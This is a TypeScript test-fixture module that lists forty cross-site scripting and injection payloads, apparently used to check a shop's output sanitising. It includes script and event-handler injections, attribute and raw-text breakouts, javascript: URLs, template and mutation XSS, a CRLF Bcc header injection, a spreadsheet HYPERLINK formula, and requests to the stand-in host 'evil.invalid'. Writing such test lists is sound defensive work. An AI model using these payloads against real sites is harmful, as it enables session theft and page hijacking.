/** A host that nothing of the shop asks for. */
export const FOREIGN = "evil.invalid";

/** What runs, when any of it does: a flag on the window, and a request to a foreign host. */
const RUN = `window.pwned=1`;
const CALL = `fetch('//${FOREIGN}/x')`;

/**
 * Forty ways to smuggle a script, an element or a style into a page. `pwn` in each shows that it was shown at all.
 */
export const PAYLOADS = [
  // plain elements
  `pwn01<script>${RUN}</script>`,
  `pwn02<img src=x onerror="${RUN}">`,
  `pwn03<svg onload="${RUN}">`,
  `pwn04<svg><script>${RUN}</script></svg>`,
  `pwn05<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `pwn06<body onload=${RUN}>`,
  `pwn07<details open ontoggle=${RUN}>x</details>`,
  `pwn08<video><source onerror="${RUN}"></video>`,
  `pwn09<object data="data:text/html,<script>parent.pwned=1</script>">`,
  `pwn10<input autofocus onfocus=${RUN}>`,
  // out of an attribute
  `pwn11" onmouseover="${RUN}" x="`,
  `pwn12' autofocus onfocus='${RUN}' x='`,
  `pwn13"><img src=x onerror=${RUN}>`,
  `pwn14'><svg/onload=${RUN}>`,
  `pwn15\`><img src=x onerror=${RUN}>`,
  // out of the data beside the page
  `pwn16</script><script>${RUN}</script>`,
  `pwn17<!--<script>${RUN}//`,
  `pwn18-->${"<"}script>${RUN}</script>`,
  `pwn19\\u003c/script>\\u003cscript>${RUN}`,
  `pwn20"];${RUN};//`,
  `pwn21\u2028${RUN}\u2029`,
  `pwn22]]><script>${RUN}</script>`,
  // out of text that is not parsed as markup
  `pwn23</title><script>${RUN}</script>`,
  `pwn24</style><script>${RUN}</script>`,
  `pwn25</textarea><img src=x onerror=${RUN}>`,
  `pwn26</noscript><img src=x onerror=${RUN}>`,
  // addresses
  `javascript:${RUN}//pwn27`,
  `JaVaScRiPt:${CALL}//pwn28`,
  `data:text/html,<script>opener.pwned=1</script>pwn29`,
  `//${FOREIGN}/pwn30`,
  // templates
  `pwn31{{constructor.constructor('${RUN}')()}}`,
  `pwn32\${${RUN}}#{${RUN}}<%=${RUN}%>`,
  // markup that changes when it is parsed twice
  `pwn33<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></table></mtext></math>`,
  `pwn34<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `pwn35<template><img src=x onerror=${RUN}></template>`,
  // styles and other requests
  `pwn36<style>@import'//${FOREIGN}/x'</style><link rel=stylesheet href=//${FOREIGN}/x>`,
  `pwn37<base href=//${FOREIGN}/><meta http-equiv=refresh content="0;url=//${FOREIGN}/x">`,
  // letters that are seen otherwise, and line breaks
  `pwn38\u202e>gnihton<\u2066 ${"\uff1c"}script\uff1e${RUN}\uff1c/script\uff1e`,
  `pwn39\r\nBcc: ${FOREIGN}\r\n\r\n<script>${RUN}</script>`,
  `=HYPERLINK("//${FOREIGN}/x","pwn40")`,
] as const;
